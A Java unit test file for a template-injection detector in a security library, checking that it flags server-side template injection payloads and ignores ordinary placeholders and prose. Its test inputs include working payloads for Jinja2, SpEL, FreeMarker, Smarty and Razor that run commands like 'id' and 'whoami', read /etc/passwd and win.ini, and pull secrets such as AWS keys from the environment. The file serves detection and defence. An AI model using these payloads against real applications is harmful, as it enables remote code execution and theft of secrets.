package dev.bulwark.core.internal.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.Scans;
import dev.bulwark.core.internal.rules.TextProfile;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

class TemplateInjectionDetectorTest {

    @Test
    void quickScanFindsNothingToJudgeInProseWithParentheses() {
        assertThat(quick("Gift wrap, no invoice inside (it's a present). Call before delivery: +41 44"))
                .isEqualTo(TemplateInjectionDetector.QuickScan.NOTHING);
    }

    @Test
    void quickScanLooksAtTheCharacterAfterEachSigil() {
        assertThat(quick("price $$x (total)")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("a #$x then (b)")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("note ?eval")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("note #set")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("x ?? y #")).isEqualTo(TemplateInjectionDetector.QuickScan.NOTHING);
        assertThat(quick("$")).isEqualTo(TemplateInjectionDetector.QuickScan.NOTHING);
    }

    @Test
    void quickScanFindsOpenerPairsWhoseFirstCharacterIsNoMark() {
        assertThat(quick("T(java.lang.Runtime)")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("a*{x}")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("<%= x %>")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
    }

    @Test
    void quickScanKeepsOnlyTheEscapesBeforeTheFirstOpener() {
        assertThat(quick("%41 then ${x}")).isEqualTo(TemplateInjectionDetector.QuickScan.ESCAPED_TEXT);
        assertThat(quick("${x} then %41")).isEqualTo(TemplateInjectionDetector.QuickScan.TEXT);
        assertThat(quick("plain &amp; text")).isEqualTo(TemplateInjectionDetector.QuickScan.ESCAPED_TEXT);
    }

    private static TemplateInjectionDetector.QuickScan quick(String value) {
        return TemplateInjectionDetector.quickScan(value, TextProfile.of(value));
    }

    private final TemplateInjectionDetector detector = new TemplateInjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {"{{7*7}}", "{{ 7 * '7' }}", "${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "[[${3*3}]]",
        "${{7*7}}", "name={{6*6}}&x=1", "{{ 40+2 }}"})
    void detectsArithmeticProbe(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{ user.getName() }}", "${product.price.toString()}", "<% system('id') %>",
        "#{request.getParameter('x')}", "<%= `id` %>"})
    void detectsCallInsideTemplate(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{runtime.exec('id')}", "{{constructor.constructor('return this')()}}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}", "${''.getClass().forName('java.lang.Runtime')}"})
    void detectsExpressionReachingCodeExecution(String value) {
        assertThat(Scans.value(detector, value, Level.BASIC)).contains("TEMPLATE-CODE-EXECUTION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{config}}", "{{ settings }}", "${pageContext}", "{{ lipsum }}"})
    void detectsSensitiveTemplateObject(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-SENSITIVE-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{% if True %}49{% endif %}", "<% if true %>x<% end %>", "<%= if 1 %>49<% end %>",
        "{% import os %}", "{% include '/etc/passwd' %}", "<% require 'open3' %>",
        "<#assign x = 1>", "#set($a = 'b')", "#foreach($i in $list)x#end", "{% set x = 1 %}"})
    void detectsTemplateStatement(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-STATEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{% if user %}yes{% endif %}", "<% if admin %>x<% end %>",
        "Dear {{ name }},{% if order %} your order {{ order }} shipped{% endif %}", "{% for item in items %}{{ item }}{% endfor %}"})
    void reportsControlFlowStatementsOnlyAtStrict(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
        assertThat(Scans.value(detector, value, Level.STRICT)).contains("TEMPLATE-CONTROL-STATEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{% if config %}x{% endif %}", "{% if 7*7 == 49 %}x{% endif %}",
        "{% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}"})
    void judgesWhatControlFlowStatementsHoldAtStandard(String value) {
        assertThat(Scans.value(detector, value)).isNotEmpty();
    }

    @Test
    void detectsFreemarkerInstantiation() {
        assertThat(Scans.value(detector, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"))
                .contains("TEMPLATE-TYPE-REFERENCE");
    }

    @Test
    void detectsSpelTypeReferenceOutsideDelimiters() {
        assertThat(Scans.value(detector, "T(java.lang.Runtime).getRuntime().exec('id')"))
                .contains("TEMPLATE-TYPE-REFERENCE");
    }

    @Test
    void detectsThymeleafPreprocessing() {
        assertThat(Scans.value(detector, "__${T(java.lang.Math).random()}__::.x")).contains("TEMPLATE-PREPROCESSING");
    }

    @Test
    void detectsVelocityReferenceCallingReflection() {
        assertThat(Scans.value(detector, "$x.class.forName('java.lang.Runtime')")).contains("TEMPLATE-CODE-EXECUTION");
    }

    @Test
    void detectsEscapedDelimiters() {
        assertThat(Scans.value(detector, "&#x7B;&#x7B;7*7&#x7D;&#x7D;")).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Hello {{name}}", "Hello {{ user.firstName }}", "Dear ${customer}", "Total ${5}",
        "{{> header}}", "{{#items}}{{title}}{{/items}}", "{\"a\":{\"b\":[1,2]}}", "[[Home]] and [[2021-03-04]]",
        "T(5) is my score", "is it new?", "#general channel", "#1 seller"})
    void ignoresPlaceholdersAndPlainBraces(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @Test
    void reportsPropertyChainOnlyAtStrictLevel() {
        assertThat(Scans.value(detector, "{{ order.customer.name }}")).isEmpty();
        assertThat(Scans.value(detector, "{{ order.customer.name }}", Level.STRICT))
                .containsExactly("TEMPLATE-PROPERTY-REFERENCE");
    }

    @Test
    void ignoresLog4jLookupLeftToTheJavaFamily() {
        assertThat(Scans.value(detector, "${jndi:ldap://h.example/a}")).isEmpty();
    }

    @Test
    void ignoresBinaryDataBetweenDelimiters() {
        assertThat(Scans.value(detector, "*{\u0001\u0002*\u0003\ufffd}")).isEmpty();
    }

    @ParameterizedTest
    @FieldSource("dev.bulwark.core.internal.rules.Scans#ORDINARY_VALUES")
    void ignoresOrdinaryValue(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"#{@systemEnvironment['AWS_SECRET_ACCESS_KEY']}", "#{systemProperties['user.home']}",
        "${@environment.getProperty('db.password')}", "#{systemEnvironment}"})
    void blocksSpelEnvironmentAndBeanReads(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-SENSITIVE-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"#{`id`}", "${`id`}", "p #{`cat /etc/passwd`}"})
    void blocksBackticksInRubyAndPhpInterpolation(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{\"\"[\"__cla\"~\"ss__\"]}}", "{{ request['__cl'+'ass__'] }}",
        "{{ ''['__class__'] }}", "{{ x[\"con\" ~ \"fig\"] }}"})
    void blocksDangerousNamePutTogetherFromStrings(String value) {
        assertThat(Scans.value(detector, value)).containsAnyOf("TEMPLATE-SENSITIVE-OBJECT", "TEMPLATE-CODE-EXECUTION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}", "{{#with user}}x{{/with}}",
        "{{#lookup . 'constructor'}}x{{/lookup}}", "{{#if true}}x{{/if}}", "{{#each \"abc\"}}{{this}}{{/each}}"})
    void blocksHandlebarsBlockHelpersThatBindNamesOrTestLiterals(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-STATEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{#each items}}{{this}}{{/each}}", "{{#if user}}x{{/if}}",
        "Hi {{name}},{{#unless paid}} please pay {{total}}{{/unless}}", "{{#each this}}{{name}}{{/each}}"})
    void reportsHandlebarsControlHelpersOnDataOnlyAtStrict(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
        assertThat(Scans.value(detector, value, Level.STRICT)).contains("TEMPLATE-CONTROL-STATEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"@(1+2)", "@(System.Diagnostics.Process.Start(\"cmd.exe\"))"})
    void blocksRazorExplicitExpression(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{$smarty.version}", "${sessionScope}", "${requestScope.user}"})
    void blocksSmartyAndJspScopeObjects(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-SENSITIVE-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$text = \"Hello {$name}\";", "echo \"Total: {$order->total()}\";", "{$user.name}",
        "call me @(555) 123-4567", "@(john) said hi", "team@(1-2)"})
    void allowsPhpInterpolationAndMentionsThatLookLikeSmartyOrRazor(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{#items}}{{name}}{{/items}}", "{{ \"__init__\" }} is a python method",
        "{{ price ~ \" USD\" }}", "{{ \"a\" ~ \"b\" }}", "#{@foo}", "Email me at a@b.com", "const s = `Hello ${name}`;",
        "Hello #{name}", "{{#each}} is a helper"})
    void allowsPlainTemplatesAndProseNearTheNewChecks(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{if system('id')}{/if}", "{if readfile('/etc/passwd')}{/if}", "{elseif passthru('ls')}{/if}",
        "{while  exec('id')}{/while}", "{if $x|@count > strlen('a')}y{/if}"})
    void detectsSmartyBlockConditionCallingFunction(String value) {
        assertThat(Scans.value(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{if $user}Hello {$user}{/if}", "{if system('id')}", "function f() {if (ok()) {run();}} {/if}",
        "{if you ask me} this works {/if}", "{if a.b}x{/if}"})
    void ignoresSmartyBlocksWithoutCallsAndUnclosedOrCodeBlocks(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<%@ page import=\"java.io.*\" %>", "<%@ include file=\"/WEB-INF/x.jsp\" %>",
        "<%@taglib prefix=\"c\" uri=\"http://java.sun.com/jsp/jstl/core\"%>"})
    void detectsJspDirectiveWithAttribute(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-STATEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"use the <%@ page %> directive", "<%@ note: see below %>"})
    void ignoresJspDirectiveNamedWithoutAttribute(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{if a(", "{if {if {/if}", "{while x(}"})
    void finishesQuicklyOnOneMebibyteOfSmartyBlockOpeners(String unit) {
        String value = Scans.mebibyteOf(unit) + "{/if}{/while}";
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{''~", "{{x['__", "#{@a[", "{{#with ", "${`", "@(@(", "{$a{$a"})
    void finishesQuicklyOnOneMebibyteOfNewShapes(String unit) {
        String value = Scans.mebibyteOf(unit);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @ParameterizedTest
    @ValueSource(strings = {"${${${", "{{{{", "{%{%", "<%<%", "[[[[", "#set(#set(", "T(T(", "}}}}", "${7*", "$a.$b."})
    void finishesQuicklyOnOneMebibyteOfRepetition(String unit) {
        String value = Scans.mebibyteOf(unit);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @Test
    void listsEveryRuleItReports() {
        assertThat(detector.rules()).extracting(r -> r.key()).containsOnly("TEMPLATE");
        assertThat(detector.rules()).extracting(r -> r.id()).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @ValueSource(strings = {"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
        "x @System.IO.File.ReadAllText(\"c:/windows/win.ini\")", "@System.Environment.GetEnvironmentVariable(\"PATH\")"})
    void detectsRazorImplicitCallIntoSystem(String value) {
        assertThat(Scans.value(detector, value)).contains("TEMPLATE-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"mail me @System.Admin", "see @System.String docs", "@System.Diagnostics", "@System.Console.WriteLine(1)"})
    void ignoresMentionsOfSystemWithoutDangerousCall(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"${{<%[%'\"}}%\\.", "{{<%[%${", "#{*{@(}}"})
    void detectsTemplatePolyglotProbe(String value) {
        assertThat(Scans.value(detector, value)).containsExactly("TEMPLATE-POLYGLOT-PROBE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{ }} ${ }", ":-) {{ }}", "<%= %> {{ }} a ${ }", "[[ ]] {{ }}"})
    void ignoresPunctuationWithFewerThanThreeTemplateOpeners(String value) {
        assertThat(Scans.value(detector, value)).doesNotContain("TEMPLATE-POLYGLOT-PROBE");
    }
}
